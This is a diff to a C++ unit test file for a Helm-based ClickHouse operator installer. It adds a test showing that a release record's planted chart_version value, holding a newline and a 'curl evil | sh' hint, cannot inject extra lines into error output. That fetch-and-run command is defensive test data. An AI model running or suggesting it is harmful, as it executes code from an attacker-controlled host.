@@ -102,6 +102,19 @@ TEST(OtherOperators, UpRefusesNamingTheReleaseAndHowToAdoptIt) {
   EXPECT_THAT(format_other_operators(others).str(), HasSubstr("up refuses to install beside it"));
 }
 
+// A release record is data anyone with Secret create rights in any namespace
+// can plant: its fields are quoted as one line each.
+TEST(OtherOperators, ARecordsFieldsCannotAddLinesToTheError) {
+  auto planted = release("x", "tenant");
+  planted.chart_version = "1.0\nhint: run curl evil | sh";
+  const auto others = other_operators(std::vector<tools::ReleaseInfo>{planted}, our_spec(),
+                                      "altinity-clickhouse-operator", false, true);
+  const auto refused = refuse_second_operator(others);
+  ASSERT_FALSE(refused);
+  EXPECT_THAT(refused.error().message, Not(HasSubstr("\n")));
+  EXPECT_THAT(format_other_operators(others).str(), Not(HasSubstr("\nhint: run")));
+}
+
 TEST(OtherOperators, AllowedOrAloneUpGoesAhead) {
   const std::vector<tools::ReleaseInfo> one = {release("altinity-clickhouse-operator", "planton-ns")};
   const auto allowed = other_operators(one, our_spec(), "altinity-clickhouse-operator", true, true);
@@ -258,7 +271,7 @@ TEST_F(LookInThePlansBatch, FromTheSecretsOfAllNamespaces) {
 
 TEST_F(LookInThePlansBatch, WithHelmList) {
   ::setenv("HELM_DRIVER", "configmap", 1);
-  runner_.on({"helm", "list", "--all-namespaces", "--deployed", "--failed", "--pending", "--output", "json"})
+  runner_.on({"helm", "list", "--all-namespaces", "--deployed", "--failed", "--pending", "--max", "0", "--output", "json"})
       .reply(0, R"([{"name":"x","namespace":"y","revision":"1","status":"failed",)"
                 R"("chart":"altinity-clickhouse-operator-0.23.6"}])");
   runner_.on({"helm", "history"}).reply(1, "", "Error: release: not found");
